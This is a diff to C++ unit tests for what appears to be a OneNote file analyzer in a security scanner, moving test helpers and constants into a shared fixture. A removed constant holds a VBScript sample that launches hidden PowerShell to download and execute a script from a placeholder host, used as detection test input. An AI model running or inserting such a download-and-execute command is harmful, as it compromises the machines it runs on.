@@ -4,6 +4,8 @@
 
 #include <gtest/gtest.h>
 
+#include "analyzers/onenote/onenote_fixture.h"
+
 #include "core/file_type.h"
 #include "core/hash.h"
 #include "core/testing/recording_context.h"
@@ -14,33 +16,12 @@ namespace {
 
 using lg::testing::RecordingContext;
 
-const std::string kFileGuid("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3", 16);
-const std::string kHeader("\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC", 16);
-const std::string kFooter("\x22\xA7\xFB\x71\x79\x0F\x0B\x4A\xBB\x13\x89\x92\x56\x42\x6B\x24", 16);
+using onenote::testing::file_data_store_object;
+using onenote::testing::kHeader;
+using onenote::testing::le;
+using onenote::testing::section;
 
-std::string le64(std::uint64_t v) {
-  std::string s(8, '\0');
-  for (int i = 0; i < 8; ++i) s[i] = static_cast<char>(v >> (8 * i));
-  return s;
-}
-
-// guidHeader, cbLength, unused, reserved, FileData padded to 8, guidFooter.
-std::string file_data_store_object(const std::string& data, bool footer = true) {
-  std::string o = kHeader + le64(data.size()) + std::string(4 + 8, '\0') + data;
-  o.append((8 - data.size() % 8) % 8, '\0');
-  if (footer) o += kFooter;
-  return o;
-}
-
-std::string section(const std::vector<std::string>& objects) {
-  std::string s = kFileGuid + std::string(0x400 - 16, '\0');  // header and node lists
-  for (const auto& o : objects) s += o + std::string(24, '\0');
-  return s;
-}
-
-const std::string kScript =
-    "Set shell = CreateObject(\"WScript.Shell\")\r\n"
-    "shell.Run \"powershell -w hidden -c iwr https://cdn.example/a.ps1 | iex\", 0\r\n";
+using onenote::testing::kScript;
 
 std::string png() {
   return std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16) + std::string(40, 'p');
@@ -75,7 +56,7 @@ TEST(OneNoteAnalyzer, PicturesOnlyAreQuiet) {
 TEST(OneNoteAnalyzer, DamagedObjectsAreAnomalies) {
   // No footer: still delivered. Length past the end: skipped. Header at the very end: stop.
   std::string one = section({file_data_store_object(kScript, false)});
-  one += kHeader + le64(1ull << 40) + std::string(12, '\0') + "short";
+  one += kHeader + le(1ull << 40, 8) + std::string(12, '\0') + "short";
   one += kHeader.substr(0, 16) + "\x01";
   RecordingContext ctx;
   OneNoteAnalyzer a;
